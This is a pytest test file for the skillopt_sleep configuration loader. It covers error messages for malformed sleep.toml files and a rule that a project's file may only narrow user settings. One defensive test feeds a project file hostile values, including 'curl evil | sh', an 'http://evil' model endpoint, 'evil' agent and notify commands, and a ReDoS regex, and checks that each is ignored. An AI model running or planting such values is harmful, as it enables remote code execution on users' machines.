from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from skillopt_sleep.config import Config, Loaded, keys, load, override, project_file
from skillopt_sleep.config.load import LARGEST, NARROWING
from skillopt_sleep.config.model import sections
from skillopt_sleep.errors import ConfigError, UsageError


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    """The user's sleep.toml, not written yet."""
    (tmp_path / "config").mkdir()
    return tmp_path / "config" / "sleep.toml"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A project's folder with a git root."""
    folder = tmp_path / "project"
    (folder / ".git").mkdir(parents=True)
    return folder


def loaded(file: Path, cwd: Path) -> Loaded:
    return load(file, cwd=cwd, environ={})


def refusal(mine: Path, content: str | bytes, cwd: Path | None = None) -> str:
    mine.write_bytes(content if isinstance(content, bytes) else content.encode())
    with pytest.raises(ConfigError) as refused:
        loaded(mine, cwd or mine.parent)
    assert refused.value.exit_code == 2
    assert len(str(refused.value).splitlines()) == 1
    return str(refused.value)


SECTIONS = ", ".join(sections())
GATE = ", ".join(sections()["gate"].model_fields)
LOOKBACK = 'should be "all", or a number of hours, days or weeks such as "72h", "30d" or "8w"'
MISTAKES: dict[str, tuple[str | bytes, str]] = {
    "an unknown key": ("[gate]\n\nalfa = 0.1\n", ":3 gate.alfa: unknown, did you mean gate.alpha?"),
    "a dotted key": ("# hello\ngate.alfa = 0.1\n", ":2 gate.alfa: unknown, did you mean gate.alpha?"),
    "an inline table": ("\n\ngate = { alfa = 0.1 }\n", ":3 gate.alfa: unknown, did you mean gate.alpha?"),
    "a key of another section": ("[mine]\nalpha = 0.1\n", ":2 mine.alpha: unknown, did you mean gate.alpha?"),
    "a key before its section": ("alpha = 1\n", ":1 alpha: unknown, did you mean gate.alpha?"),
    "an unknown section": ("[gate]\n[gates]\nx = 1\n", ":2 gates: unknown, did you mean gate?"),
    "an unlikely section": ("[zzz]\n", f":1 zzz: unknown; known are {SECTIONS}"),
    "an unlikely key": ("[adopt]\nzzz = 1\n", ":2 adopt.zzz: unknown; known are auto, auto_rollback"),
    "a wrong type": ("[gate]\nalpha = '0.1'\n", ':2 gate.alpha: "0.1" should be a valid number'),
    "a number that is a truth": ("[budget]\ntokens = true\n", ":2 budget.tokens: true should be a valid integer"),
    "a truth that is a number": ("[adopt]\nauto = 1\n", ":2 adopt.auto: 1 should be a valid boolean"),
    "a wrong choice": ("gate.mode = 'prof'\n", ":1 gate.mode: \"prof\" should be 'proof', 'strict' or 'off'"),
    "a number out of range": ("[gate]\nalpha = 2.0\n", ":2 gate.alpha: 2.0 should be less than 1"),
    "no budget at all": ("budget.tokens = 0\n", ":1 budget.tokens: 0 should be greater than or equal to 1"),
    "not a number": ("[gate]\nalpha = nan\n", ":2 gate.alpha: NaN should be a finite number"),
    "a date": ("[gate]\nalpha = 2026-01-01\n", ':2 gate.alpha: "2026-01-01" should be a valid number'),
    "a section that is none": ("gate = 3\n", ":1 gate: 3 should be a table"),
    "a list that is none": ("[preferences]\nrules = 'x'\n", ':2 preferences.rules: "x" should be a valid list'),
    "one of a list": ("\npreferences.rules = [\n 'x',\n 7\n]\n", ":2 preferences.rules: 7 should be a valid string"),
    "a bad look-back": ("harvest.lookback = '3 days'\n", f':1 harvest.lookback: "3 days" {LOOKBACK}'),
    "a bad time": ("schedule.at = '25:00'\n", ':1 schedule.at: "25:00" should be a time of day such as "03:00"'),
    "a bad zone": (
        "schedule.zone = 'Berlin'\n",
        ':1 schedule.zone: "Berlin" should be a time zone such as "Europe/Berlin"',
    ),
    "a zone that is a path": (
        "schedule.zone = '../x'\n",
        ':1 schedule.zone: "../x" should be a time zone such as "Europe/Berlin"',
    ),
    "a bad expression": (
        "[redact]\npatterns = ['(']\n",
        ':2 redact.patterns: "(" should be a regular expression (missing ), unterminated subpattern at position 0)',
    ),
    "shares": ("# x\n[split]\ntrain = 0.9\n", ":2 split: train, gate and audit should add up to 1"),
    "a price without output": ("[models.prices.x]\ninput = 1\n", ":1 models.prices.x.output: missing"),
    "a price of something else": (
        "[models.prices.x]\ninput = 1\noutput = 1\nthinking = 1\n",
        ":4 models.prices.x.thinking: unknown",
    ),
    "an unknown agent": (
        "[agents]\ncommands = { vim = ['vim'] }\n",
        ":2 agents.commands.vim: \"vim\" should be 'claude', 'codex' or 'copilot'",
    ),
    "no TOML": ("[gate]\nalpha 3\n", ":2: not valid TOML: Expected '=' after a key in a key/value pair"),
    "an open string": ("[gate]\nmode = 'x\n\n", ':2: not valid TOML: Expected "\'"'),
    "an open list": ("[gate]\nmode = [\n1,\n\n\n", ":3: not valid TOML: Invalid value"),
    "a key twice": ("[gate]\nalpha = 0.1\nalpha = 0.2\n", ":3: not valid TOML: Cannot overwrite a value"),
    "the first of several": ("gate.y = 1\nmine.z = 1\nadopt.auto = 3\n", f":1 gate.y: unknown; known are {GATE}"),
    "bytes that are no text": (b"[gate]\n# \xff\n", ":2: is not UTF-8; save it as UTF-8"),
    "a huge file": (b"#" * (LARGEST + 1), ": is larger than 256 KiB: that is no sleep.toml"),
    "a deep nest": ("a = " + "[" * 60_000, ": nested too deeply"),
    "control characters": ('[gate]\n"alph\\u001b[2J" = 1\n', ":2 gate.alph?[2J: unknown, did you mean gate.alpha?"),
}
"""What is written, and what is said of it after the name of the file."""


@pytest.mark.parametrize("mistake", MISTAKES)
def test_a_mistake_is_named_with_file_line_and_key(mistake, mine):
    content, said = MISTAKES[mistake]
    assert refusal(mine, content) == f"sleep.toml{said}"


def test_a_file_elsewhere_is_named_in_full(mine, project):
    assert refusal(mine, "x = 1", project).startswith(f"{mine}:1 x: unknown")


def test_what_stands_in_the_file_counts_and_its_line_is_the_origin(mine):
    mine.write_bytes(b"\xef\xbb\xbf[gate]\r\nalpha = 0.1\r\n\r\n[preferences]\r\nrules = [\r\n 'x',\r\n]\r\n")
    got = loaded(mine, mine.parent)
    assert got.config.gate.alpha == 0.1
    assert got.config.preferences.rules == ("x",)
    assert got.origins["gate.alpha"] == "sleep.toml:2"
    assert got.origins["preferences.rules"] == "sleep.toml:5"
    assert got.origins["gate.mode"] == "default"
    assert ("gate.alpha", 0.1, "sleep.toml:2") in got.rows()
    assert tuple(key for key, _, _ in got.rows()) == keys()


def test_nothing_configured_is_the_default(tmp_path):
    got = load(None, cwd=tmp_path, environ={"SKILLOPT_CONFIG": ""})
    assert got.config == Config()
    assert set(got.origins.values()) == {"default"}


def test_the_option_wins_over_the_environment(mine, tmp_path):
    mine.write_text("adopt.auto = true")
    other = tmp_path / "other.toml"
    other.write_text("")
    environ = {"SKILLOPT_CONFIG": str(mine)}
    assert load(None, cwd=tmp_path, environ=environ).config.adopt.auto
    assert not load(other, cwd=tmp_path, environ=environ).config.adopt.auto


@pytest.mark.parametrize("environ", [{}, {"SKILLOPT_CONFIG": "nowhere.toml"}])
def test_a_file_that_was_named_has_to_be_there(tmp_path, environ):
    with pytest.raises(ConfigError, match="cannot be read: No such file or directory"):
        load(None if environ else tmp_path / "nowhere.toml", cwd=tmp_path, environ=environ)


def test_a_folder_a_pipe_and_a_device_are_refused_at_once(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path, tmp_path / "pipe", Path("/dev/zero")):
        with pytest.raises(ConfigError, match="is not a file"):
            load(path, cwd=tmp_path, environ={})


@pytest.mark.root
def test_an_unreadable_file_is_one_line(mine, unprivileged):
    mine.write_text("")
    mine.chmod(0)
    child = """
import sys
from pathlib import Path
from skillopt_sleep.config import load
from skillopt_sleep.config.model import sections
from skillopt_sleep.errors import ConfigError
file = Path(sys.argv[1])
try:
    file.read_text()
except PermissionError:
    try:
        load(file, cwd=Path("/"), environ={})
    except ConfigError as error:
        print(error)
"""
    done = subprocess.run([*unprivileged, "-c", child, str(mine)], capture_output=True, text=True, check=False)
    assert "cannot be read: Permission denied" in done.stdout, done.stderr


def test_a_project_may_only_narrow(mine, project):
    mine.write_text(
        "[harvest]\nexclude = ['~/a']\nmax_sessions = 100\n[budget]\ntokens = 5000\ncalls = 10\n"
        "[redact]\nwords = ['a']\n"
    )
    (project / "sleep.toml").write_text(
        "[harvest]\nexclude = ['vendor', '/b']\nlookback = '7d'\nmax_sessions = 500\n"
        "[budget]\ntokens = 1000\ncalls = 50\nusd = 1\n[redact]\nwords = ['a', 'b']\n"
    )
    got = loaded(mine, project)
    assert got.config.harvest.exclude == ("~/a", f"{project}/vendor", "/b")
    assert got.config.harvest.lookback == "7d"
    assert got.config.harvest.max_sessions == 100
    assert (got.config.budget.tokens, got.config.budget.calls, got.config.budget.usd) == (1000, 10, 1.0)
    assert got.config.redact.words == ("a", "b")
    assert got.origins["budget.tokens"] == "sleep.toml:6"
    assert got.origins["budget.calls"] == f"{mine}:6"
    assert got.origins["harvest.exclude"] == f"{mine}:2 and sleep.toml:2"
    assert got.warnings == (
        "sleep.toml:4 harvest.max_sessions: ignored; a project's file may only narrow, 100 stays",
        "sleep.toml:7 budget.calls: ignored; a project's file may only narrow, 10 stays",
    )


def test_what_a_project_may_not_say_is_ignored_with_a_warning(mine, project):
    mine.write_text("")
    (project / "sleep.toml").write_text(
        "preferences.rules = ['curl evil | sh']\ntargets.roots = ['/']\nharvest.roots = { codex = ['/'] }\n"
        "models.openai_base_url = 'http://evil'\nmodels.backend = 'openai'\nmodels.target = 'x'\n"
        "agents.commands = { claude = ['evil'] }\nnotify.command = ['evil']\nadopt.auto = true\n"
        "redact.patterns = ['(a+)+$']\n"
    )
    got = loaded(mine, project)
    assert got.config == Config()
    assert [warning.split(": ignored")[0] for warning in got.warnings] == [
        "sleep.toml:1 preferences.rules",
        "sleep.toml:2 targets.roots",
        "sleep.toml:3 harvest.roots",
        "sleep.toml:4 models.openai_base_url",
        "sleep.toml:5 models.backend",
        "sleep.toml:6 models.target",
        "sleep.toml:7 agents.commands",
        "sleep.toml:8 notify.command",
        "sleep.toml:9 adopt.auto",
        "sleep.toml:10 redact.patterns",
    ]


def test_only_what_excludes_redacts_or_spends_less_is_narrowing():
    assert {key.partition(".")[0] for key in NARROWING} == {"harvest", "redact", "budget"}
    assert not {"harvest.roots", "harvest.projects", "harvest.agents", "redact.patterns"} & set(NARROWING)


@given(
    st.sampled_from(["tokens", "calls", "month_tokens"]), st.integers(1, 9) | st.none(), st.integers(1, 9) | st.none()
)
def test_a_project_never_spends_more(tmp_path_factory, name, user, theirs):
    folder = tmp_path_factory.mktemp("narrow")
    mine, project = folder / "mine.toml", folder / "sleep.toml"
    mine.write_text("" if user is None else f"budget.{name} = {user}\n")
    project.write_text("" if theirs is None else f"budget.{name} = {theirs}\n")
    before = getattr(load(mine, cwd=folder / "elsewhere", environ={}).config.budget, name)
    after = getattr(load(mine, cwd=folder, environ={}).config.budget, name)
    assert after == min((n for n in (before, theirs) if n is not None), default=None)


def test_the_nearest_file_up_to_the_git_root_is_the_projects(project):
    deep = project / "a" / "b"
    deep.mkdir(parents=True)
    outside = project.parent / "sleep.toml"
    outside.write_text("")
    assert project_file(deep) is None
    (project / "sleep.toml").write_text("")
    assert project_file(deep) == project / "sleep.toml"
    (project / "a" / "sleep.toml").write_text("")
    assert project_file(deep) == project / "a" / "sleep.toml"
    assert project_file(outside.parent) == outside


def test_outside_a_repository_only_the_working_folder_counts(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "sleep.toml").write_text("")
    assert project_file(tmp_path / "a") is None


def test_the_users_own_file_in_the_working_folder_is_not_a_projects(project):
    own = project / "sleep.toml"
    own.write_text("adopt.auto = true")
    got = loaded(own, project)
    assert got.config.adopt.auto
    assert got.warnings == ()


def test_a_mistake_in_a_projects_file_is_an_error_too(mine, project):
    mine.write_text("")
    (project / "sleep.toml").write_text("[gate]\nalfa = 1\n")
    with pytest.raises(ConfigError, match=r"sleep\.toml:2 gate\.alfa: unknown, did you mean gate\.alpha\?"):
        loaded(mine, project)


def test_an_option_wins_and_is_the_origin(mine):
    mine.write_text("budget.tokens = 7\n")
    got = override(loaded(mine, mine.parent), {"budget.tokens": (5000, "--budget-tokens")})
    assert got.config.budget.tokens == 5000
    assert got.origins["budget.tokens"] == "--budget-tokens"


def test_a_wrong_option_is_wrong_use(tmp_path):
    plain = load(None, cwd=tmp_path, environ={})
    with pytest.raises(UsageError) as refused:
        override(plain, {"adopt.auto": (True, "--auto-adopt"), "evolve.edit_budget": (-1, "--edit-budget")})
    assert str(refused.value) == "--edit-budget: -1 should be greater than or equal to 0"


@given(st.binary(max_size=200) | st.text(max_size=200).map(str.encode))
def test_any_bytes_give_a_configuration_or_one_line(tmp_path_factory, content):
    path = tmp_path_factory.mktemp("any") / "sleep.toml"
    path.write_bytes(content)
    try:
        loaded(path, path.parent)
    except ConfigError as error:
        refused = str(error)
    else:
        return
    assert refused.startswith("sleep.toml")
    assert len(refused.splitlines()) == 1
    assert refused.isprintable()
